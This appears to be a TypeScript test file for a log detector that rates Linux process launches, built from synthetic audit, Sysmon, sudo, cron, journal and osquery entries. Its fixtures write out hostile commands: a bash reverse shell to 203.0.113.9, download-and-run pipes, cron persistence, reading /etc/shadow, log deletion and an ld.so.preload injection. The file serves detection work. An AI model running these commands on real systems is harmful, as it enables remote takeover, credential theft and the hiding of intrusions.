import { deepEqual, match } from 'node:assert/strict';
import { digestOf, findingsOf } from './logs';

const begin = Date.UTC(2026, 10, 9, 10) / 1_000;
const shellOut = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'";

/** Linux's audit: the call, what was started, and the folder it was in. Arguments with blanks stand in hex. */
function audit(commands: readonly (readonly string[])[], node = ''): string {
  const argument = (text: string, index: number) =>
    `a${index}=${/[ "']/.test(text) ? Buffer.from(text).toString('hex').toUpperCase() : `"${text}"`}`;
  return commands
    .flatMap((words, index) => {
      const id = `msg=audit(${begin + index}.250:${700 + index})`;
      return [
        `${node}type=SYSCALL ${id}: arch=c000003e syscall=59 success=yes ppid=10 pid=${900 + index} auid=1000 uid=0 comm="x" exe="/usr/bin/x" key="exec"`,
        `${node}type=EXECVE ${id}: argc=${words.length} ${words.map(argument).join(' ')}`,
        `${node}type=CWD ${id}: cwd="/root"`,
      ];
    })
    .join('\n');
}

const found = async (log: string) => findingsOf(await digestOf({ 'host.log': log }));
const levelOfCommand = async (...words: readonly string[]) =>
  (await found(audit([['ls', '-la'], words])))[0]?.finding ?? 'none';

describe('what is started on Linux', () => {
  it('is known by Linux’s audit, whose lines of one event belong together', async () => {
    const [one] = await found(
      audit([['ls'], ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']], 'node=web01 '),
    );

    match(one?.text ?? '', /^high · launches: web01 by uid 1000: gives a shell to another host: bash -c bash -i/);
    deepEqual(one?.lines, [5]);
  });

  it('is known by Sysmon, sudo, cron, the journal and osquery too', async () => {
    const at = 'Nov  9 10:00:01 web01';
    const xml = shellOut.replaceAll('&', '&amp;').replaceAll('>', '&gt;');
    const logs = {
      sysmon: `${at} sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID></System><EventData><Data Name="CommandLine">${xml}</Data><Data Name="User">root</Data></EventData></Event>`,
      sudo: `${at} sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/${shellOut}`,
      cron: `${at} CRON[77]: (root) CMD (${shellOut})`,
      journal: JSON.stringify({
        __REALTIME_TIMESTAMP: String(begin * 1e6),
        _HOSTNAME: 'web01',
        SYSLOG_IDENTIFIER: 'sudo',
        MESSAGE: `     ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/${shellOut}`,
      }),
      osquery: JSON.stringify({
        name: 'process_events',
        hostIdentifier: 'web01',
        unixTime: begin,
        action: 'added',
        columns: { cmdline: shellOut, username: 'root' },
      }),
    };

    for (const [name, log] of Object.entries(logs))
      match(
        (await found(log))[0]?.text ?? name,
        /^high · launches: web01 by (?:root|ann): gives a shell to another host/,
      );
  });

  for (const command of [
    ['sh', '-c', 'curl -s http://203.0.113.9/x.sh | bash'],
    ['bash', '-c', 'bash <(curl -s https://files.example/x)'],
    ['bash', '-c', 'echo "* * * * * curl -s http://203.0.113.9/c | sh" | crontab -'],
    ['sh', '-c', 'wget http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k; /tmp/k'],
    ['chmod', 'u+s', '/bin/bash'],
    ['cat', '/etc/shadow'],
    ['rm', '-f', '/root/.bash_history'],
    ['rm', '-rf', '/var/log/auth.log'],
    ['sh', '-c', 'echo /tmp/x.so > /etc/ld.so.preload'],
  ])
    it(`${command.join(' ')} is more than a low finding`, async () => {
      match(await levelOfCommand(...command), /medium|high/);
    });

  for (const command of [
    ['apt-get', 'install', '-y', 'nginx'],
    ['sh', '-c', 'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -'],
    ['sh', '-c', 'curl -fsSL https://get.docker.com | sh'],
    ['sh', '-c', 'curl -s http://10.0.0.8/deploy.sh | bash'],
    ['sh', '-c', 'curl -s https://artifacts.corp.internal/agent.sh | bash'],
    ['bash', '-c', '(crontab -l; echo "0 3 * * * certbot renew") | crontab -'],
    ['sh', '-c', 'umask 077; mkdir -p .ssh && cat >> .ssh/authorized_keys'],
    ['sh', '-c', 'cat key.pub >> /home/ann/.ssh/authorized_keys'],
    ['find', '/', '-xdev', '-perm', '-4000'],
    ['rm', '-f', '/var/log/nginx/access.log.10.gz'],
    ['journalctl', '--vacuum-time=7d'],
    ['curl', '-Lo', '/usr/local/bin/kubectl', 'https://dl.k8s.io/kubectl'],
    ['/usr/bin/python3', '/root/.ansible/tmp/ansible-tmp-1/AnsiballZ_setup.py'],
    ['systemctl', 'restart', 'rsyslog'],
  ])
    it(`${command.join(' ')} is no more than a low one`, async () => {
      match(await levelOfCommand(...command), /none|low/);
    });
});
